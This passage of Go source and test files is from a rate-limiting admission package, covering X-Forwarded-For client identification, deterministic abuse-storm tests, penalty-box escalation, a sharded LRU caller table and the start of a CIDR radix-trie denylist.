func TestXFFAllTrustedFallsBackToLeftmost(t *testing.T) {
	id := Identity{TrustedProxies: mustSet(t, "203.0.113.0/24")}
	r := request("203.0.113.1:1", map[string]string{
		"X-Forwarded-For": "203.0.113.77, 203.0.113.2",
	})
	if c := id.ClientCaller(r); c.Key != "ip:203.0.113.77" {
		t.Fatalf("key %q, want the leftmost hop when every hop is trusted", c.Key)
	}
}

func TestXFFMangledChainFallsBackToPeer(t *testing.T) {
	id := Identity{TrustedProxies: mustSet(t, "203.0.113.1")}
	r := request("203.0.113.1:1", map[string]string{
		"X-Forwarded-For": "not-an-address, 203.0.113.1",
	})
	if c := id.ClientCaller(r); c.Key != "ip:203.0.113.1" {
		t.Fatalf("key %q, want the socket peer when the chain is mangled", c.Key)
	}
}

func TestXFFMultipleHeadersConcatenate(t *testing.T) {
	id := Identity{TrustedProxies: mustSet(t, "203.0.113.1", "203.0.113.2")}
	r := request("203.0.113.1:1", nil)
	r.Header.Add("X-Forwarded-For", "198.51.100.9")
	r.Header.Add("X-Forwarded-For", "203.0.113.2")
	if c := id.ClientCaller(r); c.Key != "ip:198.51.100.9" {
		t.Fatalf("key %q; repeated XFF headers must behave like one comma chain", c.Key)
	}
}

func TestHeaderAndCookieKeys(t *testing.T) {
	id := Identity{Header: "X-Api-Key", Cookie: "session"}
	r := request("203.0.113.50:1", map[string]string{"X-Api-Key": "k-123"})
	if c := id.ClientCaller(r); c.Key != "h:k-123" {
		t.Fatalf("header key %q", c.Key)
	}
	// Header absent → cookie.
	r = request("203.0.113.50:1", nil)
	r.AddCookie(&http.Cookie{Name: "session", Value: "s-9"})
	if c := id.ClientCaller(r); c.Key != "c:s-9" {
		t.Fatalf("cookie key %q", c.Key)
	}
	// Neither → IP. The denylist IP rides along regardless of key source.
	r = request("203.0.113.50:1", map[string]string{"X-Api-Key": "k-1"})
	if c := id.ClientCaller(r); c.IP.String() != "203.0.113.50" {
		t.Fatalf("denylist IP %v, want socket peer", c.IP)
	}
}

func TestUnparseablePeerStillBuckets(t *testing.T) {
	id := Identity{}
	r := request("not-a-socket-addr", nil)
	c := id.ClientCaller(r)
	if c.Key == "" {
		t.Fatal("unparseable peer must still produce a (bucketed) key")
	}
	if c.IP.IsValid() {
		t.Fatal("unparseable peer must not fabricate an IP")
	}
}

func TestIPv4MappedPeerNormalizes(t *testing.T) {
	id := Identity{}
	a := id.ClientCaller(request("[::ffff:203.0.113.50]:1", nil))
	b := id.ClientCaller(request("203.0.113.50:2", nil))
	if a.Key != b.Key {
		t.Fatalf("mapped and plain v4 peers key differently: %q vs %q", a.Key, b.Key)
	}
}
