package admission

// The abuse-chaos suite: deterministic zipfian traffic storms driven by
// an injected clock. No wall-clock reads, no sleeps — simulated time
// advances 1ms per request (a steady 1000 rps aggregate), and every
// decision is a pure function of (seed, sequence), so two runs with the
// same seed must produce byte-identical shed/block/recover transcripts.

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"
	"time"
)

// abuseStorm replays the canonical storm and returns its transcript plus
// per-caller verdict tallies. One hot caller occupies 3 of every 4
// request slots (~750 rps against a 200 qps tier); the remaining slots
// are benign traffic spread zipfian across 10k callers, whose busiest
// member stays far under the tier.
func abuseStorm(t *testing.T, seed int64) (transcript string, hot []Decision, benignVerdicts map[string]map[Verdict]int, clk *fakeClock, ctrl *Controller) {
	t.Helper()
	clk = &fakeClock{}
	ctrl = New(Config{
		QPS:             200,
		StrikeThreshold: 3,
		BlockSeconds:    4,
		Seed:            seed,
		Now:             clk.now,
	})
	// math/rand is banned in the kernel package itself (psigenelint
	// randsource) but fine in tests: seeded, it is exactly as
	// deterministic as the suite needs.
	zipf := rand.NewZipf(rand.New(rand.NewSource(seed)), 1.2, 1, 9999)

	var b strings.Builder
	benignVerdicts = make(map[string]map[Verdict]int)
	const storm = 8000 // 8 simulated seconds at 1000 rps
	for i := 0; i < storm; i++ {
		clk.advance(time.Millisecond)
		var key string
		if i%4 != 3 {
			key = "hot"
		} else {
			key = fmt.Sprintf("benign-%d", zipf.Uint64())
		}
		d := ctrl.CheckCaller(testCaller(key))
		// Transcript entry: everything a client could observe.
		fmt.Fprintf(&b, "%d:%s:%s:%s:%d:%d\n", i, key, d.Verdict, d.Tier, d.RetryAfterSeconds, d.Strikes)
		if key == "hot" {
			hot = append(hot, d)
		} else {
			m := benignVerdicts[key]
			if m == nil {
				m = make(map[Verdict]int)
				benignVerdicts[key] = m
			}
			m[d.Verdict]++
		}
	}
	return b.String(), hot, benignVerdicts, clk, ctrl
}

// TestAbuseChaosZipfianStorm is the acceptance scenario: the hot caller
// is limited, penalty-boxed with escalating blocks, and later recovers,
// while every benign caller rides through the whole storm with zero
// limiter sheds — and the full transcript is bit-identical across two
// same-seed runs.
func TestAbuseChaosZipfianStorm(t *testing.T) {
	const seed = 0xab5e
	ta, hotA, benignA, clk, ctrl := abuseStorm(t, seed)
	tb, _, _, _, _ := abuseStorm(t, seed)
	if ta != tb {
		t.Fatal("same-seed storms produced different transcripts")
	}
	tc, _, _, _, _ := abuseStorm(t, seed+1)
	if ta == tc {
		t.Fatal("different seeds produced identical transcripts (jitter not keyed on seed)")
	}

	// Benign zipfian traffic: zero limiter sheds, for every caller.
	for key, m := range benignA {
		if m[Limited] != 0 || m[Boxed] != 0 || m[Denied] != 0 {
			t.Fatalf("benign caller %s shed: %v", key, m)
		}
	}

	// The hot caller's arc: allowed under the tier, limited over it,
	// then boxed with escalating strikes.
	tally := make(map[Verdict]int)
	maxStrikes := 0
	for _, d := range hotA {
		tally[d.Verdict]++
		if d.Strikes > maxStrikes {
			maxStrikes = d.Strikes
		}
	}
	if tally[Allow] == 0 || tally[Limited] == 0 || tally[Boxed] == 0 {
		t.Fatalf("hot caller arc incomplete: %v", tally)
	}
	if maxStrikes < 2 {
		t.Fatalf("8s storm must escalate past one strike, got %d", maxStrikes)
	}

	// Escalation ordering: each strike's first Boxed decision carries a
	// strictly longer block than the last (4s base doubles per strike;
	// half-jitter keeps the ranges [2,4), [4,8), [8,16) disjoint).
	firstBlock := make(map[int]int)
	for _, d := range hotA {
		if d.Verdict == Boxed && d.Tier != "penalty" {
			if _, ok := firstBlock[d.Strikes]; !ok {
				firstBlock[d.Strikes] = d.RetryAfterSeconds
			}
		}
	}
	for s := 2; s <= maxStrikes; s++ {
		if firstBlock[s] <= firstBlock[s-1] {
			t.Fatalf("strike %d block %ds not longer than strike %d's %ds",
				s, firstBlock[s], s-1, firstBlock[s-1])
		}
	}

	// Recovery: the storm ends, the block runs out, and the hot caller is
	// served again — strikes intact for any future relapse.
	last := hotA[len(hotA)-1]
	if last.Verdict != Boxed {
		t.Fatalf("storm must end with the hot caller boxed, got %v", last.Verdict)
	}
	clk.advance(time.Duration(last.RetryAfterSeconds+1) * time.Second)
	post := ctrl.CheckCaller(testCaller("hot"))
	if post.Verdict != Allow {
		t.Fatalf("hot caller must recover after the block, got %v", post.Verdict)
	}
	if post.Strikes != maxStrikes {
		t.Fatalf("strikes must survive recovery: %d, want %d", post.Strikes, maxStrikes)
	}
	if ctrl.Stats().Recoveries == 0 {
		t.Fatal("recovery not counted")
	}

	s := ctrl.Stats()
	t.Logf("storm: hot A/L/B=%d/%d/%d strikes=%d, %d benign callers all clean, stats=%+v",
		tally[Allow], tally[Limited], tally[Boxed], maxStrikes, len(benignA), s)
}

// TestAbuseChaosLRUPressure floods the controller with an attacker
// minting a fresh key per request: memory stays bounded by MaxCallers
// and the long-lived benign caller keeps its allowance because it is
// touched often enough to never be evicted.
func TestAbuseChaosLRUPressure(t *testing.T) {
	clk := &fakeClock{}
	ctrl := New(Config{QPS: 5, MaxCallers: 256, Shards: 4, Now: clk.now})
	for i := 0; i < 20000; i++ {
		clk.advance(100 * time.Microsecond)
		ctrl.CheckCaller(testCaller(fmt.Sprintf("mint-%d", i)))
		if i%10 == 0 {
			ctrl.CheckCaller(testCaller("steady"))
		}
	}
	s := ctrl.Stats()
	if s.TrackedCallers > 256 {
		t.Fatalf("tracked callers %d exceed the 256 bound", s.TrackedCallers)
	}
	if s.Evictions == 0 {
		t.Fatal("key-minting flood must trigger evictions")
	}
	// Each minted key is seen once, so the flood itself is never limited;
	// only the steady caller can be — and only when it genuinely exceeds
	// its tier (1 request per simulated ms ≈ far over 5 qps is fine; what
	// matters is the bound, not the verdict).
	if s.Checked != 22000 {
		t.Fatalf("checked=%d, want 22000", s.Checked)
	}
	t.Logf("LRU pressure: %+v", s)
}
