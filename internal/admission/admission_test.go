package admission

import (
	"net/http"
	"net/netip"
	"testing"
	"time"
)

// fakeClock is the injected time source for deterministic tests: a plain
// nanosecond counter the test advances by hand.
type fakeClock struct{ ns int64 }

func (c *fakeClock) now() time.Time          { return time.Unix(0, c.ns) }
func (c *fakeClock) advance(d time.Duration) { c.ns += int64(d) }

func mustAddr(t *testing.T, s string) netip.Addr {
	t.Helper()
	return netip.MustParseAddr(s)
}

func testCaller(key string) Caller { return Caller{Key: key} }
func checkN(c *Controller, key string, n int) []Decision {
	out := make([]Decision, n)
	for i := range out {
		out[i] = c.CheckCaller(testCaller(key))
	}
	return out
}

func TestControllerTierLimit(t *testing.T) {
	clk := &fakeClock{}
	c := New(Config{QPS: 2, Now: clk.now})
	ds := checkN(c, "a", 3)
	if ds[0].Verdict != Allow || ds[1].Verdict != Allow {
		t.Fatalf("first two under the qps=2 tier must pass: %v %v", ds[0].Verdict, ds[1].Verdict)
	}
	if ds[2].Verdict != Limited || ds[2].Tier != "qps" {
		t.Fatalf("third must be limited on qps, got %v/%s", ds[2].Verdict, ds[2].Tier)
	}
	if ds[2].RetryAfterSeconds != 1 {
		t.Fatalf("Retry-After %d, want 1 (window resets within the second)", ds[2].RetryAfterSeconds)
	}
	// The next window starts clean.
	clk.advance(time.Second)
	if d := c.CheckCaller(testCaller("a")); d.Verdict != Allow {
		t.Fatalf("fresh window must allow, got %v", d.Verdict)
	}
	// A different caller is unaffected throughout.
	if d := c.CheckCaller(testCaller("b")); d.Verdict != Allow {
		t.Fatalf("independent caller limited: %v", d.Verdict)
	}
}

func TestControllerTierOrdering(t *testing.T) {
	// With qps generous and qpm tight, the minute tier is the one that
	// fires, and its Retry-After reflects the minute window.
	clk := &fakeClock{}
	c := New(Config{QPS: 100, QPM: 3, Now: clk.now})
	for i := 0; i < 3; i++ {
		clk.advance(time.Second)
		if d := c.CheckCaller(testCaller("a")); d.Verdict != Allow {
			t.Fatalf("request %d: %v", i, d.Verdict)
		}
	}
	d := c.CheckCaller(testCaller("a"))
	if d.Verdict != Limited || d.Tier != "qpm" {
		t.Fatalf("want qpm limit, got %v/%s", d.Verdict, d.Tier)
	}
	if d.RetryAfterSeconds < 1 || d.RetryAfterSeconds > 60 {
		t.Fatalf("qpm Retry-After %d out of the minute window", d.RetryAfterSeconds)
	}
}

func TestControllerPenaltyBoxAndRecovery(t *testing.T) {
	clk := &fakeClock{}
	c := New(Config{QPS: 1, StrikeThreshold: 3, BlockSeconds: 4, Now: clk.now, Seed: 7})

	// Burn the allowance, then take three rejections (the strike
	// threshold) inside one window.
	if d := c.CheckCaller(testCaller("hot")); d.Verdict != Allow {
		t.Fatalf("first: %v", d.Verdict)
	}
	var boxed Decision
	for i := 0; i < 3; i++ {
		boxed = c.CheckCaller(testCaller("hot"))
	}
	if boxed.Verdict != Boxed || boxed.Strikes != 1 {
		t.Fatalf("third rejection must box with strike 1, got %v strikes=%d", boxed.Verdict, boxed.Strikes)
	}
	// Strike 1 block is half-jittered off 4s: within [2s, 4s).
	if boxed.RetryAfterSeconds < 2 || boxed.RetryAfterSeconds > 4 {
		t.Fatalf("strike-1 Retry-After %d outside [2,4]", boxed.RetryAfterSeconds)
	}

	// While blocked, every check answers Boxed with a shrinking remainder.
	clk.advance(time.Second)
	during := c.CheckCaller(testCaller("hot"))
	if during.Verdict != Boxed || during.Tier != "penalty" {
		t.Fatalf("mid-block check: %v/%s", during.Verdict, during.Tier)
	}
	if during.RetryAfterSeconds > boxed.RetryAfterSeconds {
		t.Fatalf("remaining block grew: %d > %d", during.RetryAfterSeconds, boxed.RetryAfterSeconds)
	}

	// After the block expires the caller recovers and is served again.
	clk.advance(4 * time.Second)
	if d := c.CheckCaller(testCaller("hot")); d.Verdict != Allow {
		t.Fatalf("post-block check must recover to Allow, got %v", d.Verdict)
	}
	if got := c.Stats().Recoveries; got != 1 {
		t.Fatalf("recoveries=%d, want 1", got)
	}

	// Relapse: strikes persisted, so the second box escalates (jittered
	// off 8s: within [4s, 8s)).
	for i := 0; i < 3; i++ {
		boxed = c.CheckCaller(testCaller("hot"))
	}
	if boxed.Verdict != Boxed || boxed.Strikes != 2 {
		t.Fatalf("relapse must box with strike 2, got %v strikes=%d", boxed.Verdict, boxed.Strikes)
	}
	if boxed.RetryAfterSeconds < 4 || boxed.RetryAfterSeconds > 8 {
		t.Fatalf("strike-2 Retry-After %d outside [4,8]", boxed.RetryAfterSeconds)
	}
}

func TestControllerDeterministicAcrossInstances(t *testing.T) {
	// Same config, same request sequence, same clock: decision streams are
	// identical — the property the chaos suite leans on.
	run := func() []Decision {
		clk := &fakeClock{}
		c := New(Config{QPS: 1, BlockSeconds: 4, Seed: 42, Now: clk.now})
		var out []Decision
		for i := 0; i < 200; i++ {
			clk.advance(100 * time.Millisecond)
			out = append(out, c.CheckCaller(testCaller("k")))
		}
		return out
	}
	a, b := run(), run()
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("decision %d diverged: %+v vs %+v", i, a[i], b[i])
		}
	}
}

func TestControllerDenylist(t *testing.T) {
	clk := &fakeClock{}
	c := New(Config{QPS: 100, Denylist: mustSet(t, "203.0.113.0/24"), Now: clk.now})
	bad := Caller{Key: "ip:203.0.113.9", IP: mustAddr(t, "203.0.113.9")}
	good := Caller{Key: "ip:198.51.100.1", IP: mustAddr(t, "198.51.100.1")}
	if d := c.CheckCaller(bad); d.Verdict != Denied {
		t.Fatalf("denylisted address: %v", d.Verdict)
	}
	if d := c.CheckCaller(good); d.Verdict != Allow {
		t.Fatalf("clean address: %v", d.Verdict)
	}
	// Clearing the denylist lifts the ban; the generation advances on
	// every successful swap.
	_, gen0 := c.Denylist()
	if err := c.SetDenylist(nil); err != nil {
		t.Fatalf("clear: %v", err)
	}
	if d := c.CheckCaller(bad); d.Verdict != Allow {
		t.Fatalf("after clear: %v", d.Verdict)
	}
	if _, gen := c.Denylist(); gen != gen0+1 {
		t.Fatalf("generation %d, want %d", gen, gen0+1)
	}
}

// TestControllerProbeFailureIsCounted: an initial denylist the probe
// rejects is dropped, but the drop must be observable — generation stays
// 0 while the probe-failure counter records it, so an operator can tell
// "serving with no denylist" apart from "denylist installed".
func TestControllerProbeFailureIsCounted(t *testing.T) {
	corrupt := &CIDRSet{
		nodes: []trieNode{{bits: -1, terminal: true, child: [2]int32{-1, -1}}},
		root4: -1, root6: 0, n: 1,
	}
	clk := &fakeClock{}
	c := New(Config{QPS: 1, Denylist: corrupt, Now: clk.now})
	set, gen := c.Denylist()
	if set != nil || gen != 0 {
		t.Fatalf("corrupt initial denylist must not serve: set=%v gen=%d", set, gen)
	}
	s := c.Stats()
	if s.DenylistProbeFailures != 1 || s.DenylistGeneration != 0 || s.DenylistEntries != 0 {
		t.Fatalf("probe drop not surfaced: %+v", s)
	}
	// SetDenylist reports the same rejection as a hard error and counts it.
	if err := c.SetDenylist(corrupt); err == nil {
		t.Fatal("SetDenylist must reject a probe-failing set")
	}
	if s := c.Stats(); s.DenylistProbeFailures != 2 {
		t.Fatalf("probe failures = %d, want 2", s.DenylistProbeFailures)
	}
	// The controller still rate-limits with no denylist serving.
	if d := c.CheckCaller(testCaller("a")); d.Verdict != Allow {
		t.Fatalf("first request: %v", d.Verdict)
	}
	if d := c.CheckCaller(testCaller("a")); d.Verdict != Limited {
		t.Fatalf("second in-window request must limit: %v", d.Verdict)
	}
}

func TestControllerZeroConfigAllowsEverything(t *testing.T) {
	c := New(Config{})
	for i := 0; i < 10; i++ {
		if d := c.CheckCaller(testCaller("any")); d.Verdict != Allow {
			t.Fatalf("zero config must admit everything: %v", d.Verdict)
		}
	}
	s := c.Stats()
	if s.Checked != 10 || s.Allowed != 10 || s.TrackedCallers != 0 {
		t.Fatalf("zero config must not track callers: %+v", s)
	}
}

func TestControllerCheckUsesIdentity(t *testing.T) {
	clk := &fakeClock{}
	c := New(Config{QPS: 1, Now: clk.now})
	r := request("203.0.113.5:1", nil)
	if d := c.Check(r); d.Verdict != Allow || d.Key != "ip:203.0.113.5" {
		t.Fatalf("first by IP: %+v", d)
	}
	if d := c.Check(r); d.Verdict != Limited {
		t.Fatalf("second in-window by same IP must limit: %v", d.Verdict)
	}
	// KeyFunc overrides identity entirely.
	c2 := New(Config{QPS: 1, Now: clk.now, KeyFunc: func(*http.Request) Caller {
		return Caller{Key: "fixed"}
	}})
	if d := c2.Check(r); d.Key != "fixed" {
		t.Fatalf("KeyFunc ignored: %+v", d)
	}
}

func TestControllerStats(t *testing.T) {
	clk := &fakeClock{}
	c := New(Config{QPS: 1, StrikeThreshold: 2, BlockSeconds: 4,
		Denylist: mustSet(t, "203.0.113.7"), Now: clk.now})
	c.CheckCaller(Caller{Key: "x", IP: mustAddr(t, "203.0.113.7")}) // denied
	checkN(c, "a", 2)                                               // allow, limited
	c.CheckCaller(testCaller("a"))                                  // limited #2 → boxed
	s := c.Stats()
	if s.Checked != 4 || s.Denied != 1 || s.Allowed != 1 || s.Limited != 1 || s.Boxed != 1 {
		t.Fatalf("counters: %+v", s)
	}
	if s.TrackedCallers != 1 || s.DenylistEntries != 1 || s.DenylistGeneration == 0 {
		t.Fatalf("gauges: %+v", s)
	}
}

// TestPerTierStrikesDefaultMatchesLegacy pins the compatibility contract
// for the per-tier thresholds: a config that leaves QPS/QPM/QPDStrikes
// unset must make exactly the decisions the shared StrikeThreshold made
// before they existed — verified by driving an identical abusive sequence
// through an implicit and an explicit controller in clock lockstep and
// comparing every Decision field.
func TestPerTierStrikesDefaultMatchesLegacy(t *testing.T) {
	clkA, clkB := &fakeClock{}, &fakeClock{}
	legacy := New(Config{QPS: 1, QPM: 10, StrikeThreshold: 2, BlockSeconds: 4, Seed: 7, Now: clkA.now})
	explicit := New(Config{QPS: 1, QPM: 10, StrikeThreshold: 2,
		QPSStrikes: 2, QPMStrikes: 2, QPDStrikes: 2,
		BlockSeconds: 4, Seed: 7, Now: clkB.now})

	for i := 0; i < 60; i++ {
		// A bursty cadence that crosses window edges, earns strikes, sits
		// out blocks, and recovers — the whole state machine.
		step := 300 * time.Millisecond
		if i%7 == 0 {
			step = 2 * time.Second
		}
		clkA.advance(step)
		clkB.advance(step)
		da := legacy.CheckCaller(testCaller("a"))
		db := explicit.CheckCaller(testCaller("a"))
		if da != db {
			t.Fatalf("step %d: legacy %+v vs explicit per-tier %+v", i, da, db)
		}
	}
}

// TestPerTierStrikesEscalateIndependently: a tier with its own threshold
// escalates at that bar while the other tiers keep the shared default.
func TestPerTierStrikesEscalateIndependently(t *testing.T) {
	// qps escalates on the very first rejection.
	clk := &fakeClock{}
	c := New(Config{QPS: 1, QPSStrikes: 1, BlockSeconds: 4, Seed: 7, Now: clk.now})
	ds := checkN(c, "a", 2)
	if ds[0].Verdict != Allow {
		t.Fatalf("allowance consumed early: %+v", ds[0])
	}
	if ds[1].Verdict != Boxed || ds[1].Tier != "qps" || ds[1].Strikes != 1 {
		t.Fatalf("qps with QPSStrikes=1 must box on first rejection: %+v", ds[1])
	}

	// The day tier escalates on its first rejection while qps rejections
	// still take the default three strikes.
	clk2 := &fakeClock{}
	c2 := New(Config{QPS: 100, QPD: 2, QPDStrikes: 1, BlockSeconds: 4, Seed: 7, Now: clk2.now})
	for i := 0; i < 2; i++ {
		clk2.advance(time.Second)
		if d := c2.CheckCaller(testCaller("b")); d.Verdict != Allow {
			t.Fatalf("request %d under qpd=2: %+v", i, d)
		}
	}
	clk2.advance(time.Second)
	if d := c2.CheckCaller(testCaller("b")); d.Verdict != Boxed || d.Tier != "qpd" {
		t.Fatalf("qpd with QPDStrikes=1 must box immediately: %+v", d)
	}

	// And qpm with a raised bar tolerates more rejections than the shared
	// default would have.
	clk3 := &fakeClock{}
	c3 := New(Config{QPM: 1, StrikeThreshold: 2, QPMStrikes: 4, BlockSeconds: 4, Seed: 7, Now: clk3.now})
	ds3 := checkN(c3, "c", 4) // allowance + 3 rejections, all under the raised bar
	for i, d := range ds3[1:] {
		if d.Verdict != Limited {
			t.Fatalf("rejection %d with QPMStrikes=4: %+v, want Limited", i+1, d)
		}
	}
	if d := c3.CheckCaller(testCaller("c")); d.Verdict != Boxed || d.Strikes != 1 {
		t.Fatalf("fourth rejection must finally box: %+v", d)
	}
}
