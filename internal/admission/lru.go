package admission

import (
	"sync"

	"psigene/internal/resilience"
)

// Limiter states live in a sharded, bounded LRU: millions of distinct
// callers (or an attacker minting fresh keys per request) can only ever
// pin MaxCallers states in memory, with the least-recently-seen caller
// evicted to make room. Sharding by the seeded key hash keeps the lock a
// caller contends for private to 1/Nth of the key space, so the
// admission check ahead of the gateway's semaphore never becomes the
// gateway's own bottleneck. Each shard is a map plus an intrusive
// doubly-linked recency list — O(1) hit, insert and eviction, two
// pointers per caller of overhead.

// callerState is everything the limiter tiers and the penalty box track
// for one caller. It is guarded by its shard's mutex.
type callerState struct {
	sec, min, day resilience.Window
	// rejections counts tier rejections since the last strike or recovery;
	// reaching the strike threshold escalates into the penalty box.
	rejections int
	// strikes counts penalty-box entries; each escalates the block.
	strikes int
	// blockedUntil is the penalty-box release time (nanoseconds), 0 when
	// the caller is not boxed. A caller checked after release recovers:
	// windows and rejections reset, strikes persist for escalation.
	blockedUntil int64
}

// lruEntry is one shard slot: key, state, and recency links.
type lruEntry struct {
	key        string
	state      callerState
	prev, next *lruEntry
}

// lruShard is one lock domain: a bounded map with recency ordering.
type lruShard struct {
	mu      sync.Mutex
	entries map[string]*lruEntry
	// head is most recently used, tail least; nil when empty.
	head, tail *lruEntry
	cap        int
	evictions  int64
}

// callerTable is the sharded LRU. Shard count is a power of two fixed at
// construction.
type callerTable struct {
	shards []lruShard
	seed   int64
	mask   uint64
}

func newCallerTable(shards, capacity int) *callerTable {
	if shards <= 0 {
		shards = 1
	}
	// Round up to a power of two so the hash maps to a shard by mask.
	n := 1
	for n < shards {
		n <<= 1
	}
	per := capacity / n
	if per < 1 {
		per = 1
	}
	t := &callerTable{shards: make([]lruShard, n), mask: uint64(n - 1)}
	for i := range t.shards {
		t.shards[i] = lruShard{entries: make(map[string]*lruEntry), cap: per}
	}
	return t
}

// shard picks the lock domain for a key.
func (t *callerTable) shard(key string) *lruShard {
	h := resilience.HashKey(t.seed, key)
	return &t.shards[h&t.mask]
}

// withState runs fn with the caller's state under the shard lock,
// creating (and, at capacity, evicting) as needed. now is the decision
// clock, used to keep penalty-boxed entries out of eviction's way. fn
// must not block — it is pure limiter arithmetic — so the critical
// section stays a few dozen nanoseconds.
func (t *callerTable) withState(key string, now int64, fn func(*callerState)) {
	s := t.shard(key)
	s.mu.Lock()
	e := s.entries[key]
	if e == nil {
		if len(s.entries) >= s.cap {
			s.evictTail(now)
		}
		e = &lruEntry{key: key}
		s.entries[key] = e
		s.pushFront(e)
	} else if s.head != e {
		s.unlink(e)
		s.pushFront(e)
	}
	fn(&e.state)
	s.mu.Unlock()
}

// evictScanLimit bounds how many tail entries evictTail inspects looking
// for a non-boxed victim, keeping the critical section O(1) even when a
// run of boxed entries has drifted to the tail.
const evictScanLimit = 8

// evictTail drops the least-recently-used entry that is not serving a
// penalty block. A boxed caller goes idle precisely because it is
// complying with Retry-After, which drifts it to the tail — evicting it
// would hand back a zero-strike state, and an attacker who can mint keys
// could churn the shard deliberately to wash out its own block. So the
// scan prefers the LRU entry whose block (if any) has lapsed. The
// exemption is best-effort, not absolute: if every scanned entry is boxed
// the true tail is evicted anyway, because the memory bound is the harder
// promise — a caller evicted mid-block returns with its strikes reset and
// must re-earn the box. Caller holds the lock.
func (s *lruShard) evictTail(now int64) {
	e := s.tail
	for scanned := 0; e != nil && e.state.blockedUntil > now && scanned < evictScanLimit; scanned++ {
		e = e.prev
	}
	if e == nil || e.state.blockedUntil > now {
		e = s.tail
	}
	if e == nil {
		return
	}
	s.unlink(e)
	delete(s.entries, e.key)
	s.evictions++
}

func (s *lruShard) pushFront(e *lruEntry) {
	e.prev = nil
	e.next = s.head
	if s.head != nil {
		s.head.prev = e
	}
	s.head = e
	if s.tail == nil {
		s.tail = e
	}
}

func (s *lruShard) unlink(e *lruEntry) {
	if e.prev != nil {
		e.prev.next = e.next
	} else {
		s.head = e.next
	}
	if e.next != nil {
		e.next.prev = e.prev
	} else {
		s.tail = e.prev
	}
	e.prev, e.next = nil, nil
}

// stats sums occupancy and evictions across shards.
func (t *callerTable) stats() (tracked int, evictions int64) {
	for i := range t.shards {
		s := &t.shards[i]
		s.mu.Lock()
		tracked += len(s.entries)
		evictions += s.evictions
		s.mu.Unlock()
	}
	return tracked, evictions
}
