package admission

import (
	"bufio"
	"fmt"
	"io"
	"math/bits"
	"net/netip"
	"os"
	"strings"
)

// The denylist is a binary radix trie (an LC-trie in the path-compressed
// sense: every internal node is a branch point, chains of single-child
// nodes are collapsed into the prefix stored at each node), so membership
// for millions of CIDR entries costs one descent bounded by the address
// width — O(32) for IPv4, O(128) for IPv6 — independent of entry count.
// The structure is immutable after Build: nodes live in one flat arena
// slice addressed by int32 indices (no per-node allocations, no pointer
// chasing across the heap), and hot reload swaps whole tries through an
// atomic pointer in the Controller rather than ever mutating one in
// place. That immutability is what makes the lookup path lock-free and
// the reload path safe to fail: a malformed push is rejected before the
// swap and the old trie keeps serving.

// trieNode is one arena slot: the node's prefix as a 128-bit value plus
// its length, a terminal flag (an inserted prefix ends here), and two
// child indices (-1 when absent). IPv4 prefixes live in a separate root,
// with their bits left-aligned in hi.
type trieNode struct {
	hi, lo   uint64
	bits     int32
	terminal bool
	child    [2]int32
}

// CIDRSet is an immutable set of CIDR prefixes supporting longest-match
// membership tests. Build one with BuildCIDRSet or ParseDenylist; the
// zero value of *CIDRSet (nil) is an empty set.
type CIDRSet struct {
	nodes []trieNode
	root4 int32
	root6 int32
	n     int
}

// u128 is an IP address as a left-aligned 128-bit value; IPv4 addresses
// occupy the top 32 bits of hi.
type u128 struct{ hi, lo uint64 }

// ipValue converts an address to its left-aligned bit pattern and width.
// IPv4-mapped IPv6 addresses are unmapped first so ::ffff:10.0.0.1 and
// 10.0.0.1 land in the same subtrie.
func ipValue(ip netip.Addr) (u128, int32) {
	ip = ip.Unmap()
	b := ip.As16()
	v := u128{
		hi: beUint64(b[0:8]),
		lo: beUint64(b[8:16]),
	}
	if ip.Is4() {
		// As16 stores v4 in the low 4 bytes; shift it to the top so bit 0
		// of the trie is the address's most significant bit.
		v = u128{hi: v.lo << 32, lo: 0}
		return v, 32
	}
	return v, 128
}

func beUint64(b []byte) uint64 {
	_ = b[7]
	return uint64(b[0])<<56 | uint64(b[1])<<48 | uint64(b[2])<<40 | uint64(b[3])<<32 |
		uint64(b[4])<<24 | uint64(b[5])<<16 | uint64(b[6])<<8 | uint64(b[7])
}

// bitAt returns bit i (0 = most significant) of v.
func bitAt(v u128, i int32) int32 {
	if i < 64 {
		return int32(v.hi >> (63 - i) & 1)
	}
	return int32(v.lo >> (127 - i) & 1)
}

// maskBits zeroes everything after the first n bits.
func maskBits(v u128, n int32) u128 {
	switch {
	case n <= 0:
		return u128{}
	case n < 64:
		return u128{hi: v.hi &^ (^uint64(0) >> n)}
	case n == 64:
		return u128{hi: v.hi}
	case n < 128:
		return u128{hi: v.hi, lo: v.lo &^ (^uint64(0) >> (n - 64))}
	default:
		return v
	}
}

// commonPrefixLen returns the length of the longest common bit prefix of
// a and b, capped at limit.
func commonPrefixLen(a, b u128, limit int32) int32 {
	n := int32(bits.LeadingZeros64(a.hi ^ b.hi))
	if n == 64 {
		n += int32(bits.LeadingZeros64(a.lo ^ b.lo))
	}
	if n > limit {
		n = limit
	}
	return n
}

// BuildCIDRSet constructs the trie from prefixes. Invalid (zero) prefixes
// are rejected; duplicates and nested prefixes are legal (membership is
// "any entry contains the address", so a /16 absorbs lookups that a
// nested /24 would also match). IPv4-mapped IPv6 prefixes covering at
// least the 96-bit mapping prefix are translated to the v4 range they
// denote (::ffff:10.0.0.0/104 behaves as 10.0.0.0/8); a mapped prefix
// shorter than /96 spans non-mapped v6 space no lookup can reach after
// unmapping, so it is rejected rather than silently matching nothing.
func BuildCIDRSet(prefixes []netip.Prefix) (*CIDRSet, error) {
	s := &CIDRSet{root4: -1, root6: -1}
	for _, p := range prefixes {
		if !p.IsValid() {
			return nil, fmt.Errorf("admission: invalid prefix %v", p)
		}
		if p.Addr().Is4In6() {
			if p.Bits() < 96 {
				return nil, fmt.Errorf("admission: IPv4-mapped prefix %v is shorter than /96; use the IPv4 CIDR or a native IPv6 range", p)
			}
			p = netip.PrefixFrom(p.Addr().Unmap(), p.Bits()-96)
		}
		p = p.Masked()
		if !p.IsValid() {
			return nil, fmt.Errorf("admission: invalid prefix %v", p)
		}
		v, width := ipValue(p.Addr())
		pb := int32(p.Bits())
		if width == 32 {
			s.root4 = s.insert(s.root4, maskBits(v, pb), pb)
		} else {
			s.root6 = s.insert(s.root6, maskBits(v, pb), pb)
		}
		s.n++
	}
	return s, nil
}

// push appends a node to the arena and returns its index.
func (s *CIDRSet) push(n trieNode) int32 {
	s.nodes = append(s.nodes, n)
	return int32(len(s.nodes) - 1)
}

// insert adds the prefix (val, pb) to the subtrie rooted at ni and
// returns the new root index. Arena slots are never referenced across a
// push (appends may move the backing array), so mutation happens through
// re-indexing.
func (s *CIDRSet) insert(ni int32, val u128, pb int32) int32 {
	if ni < 0 {
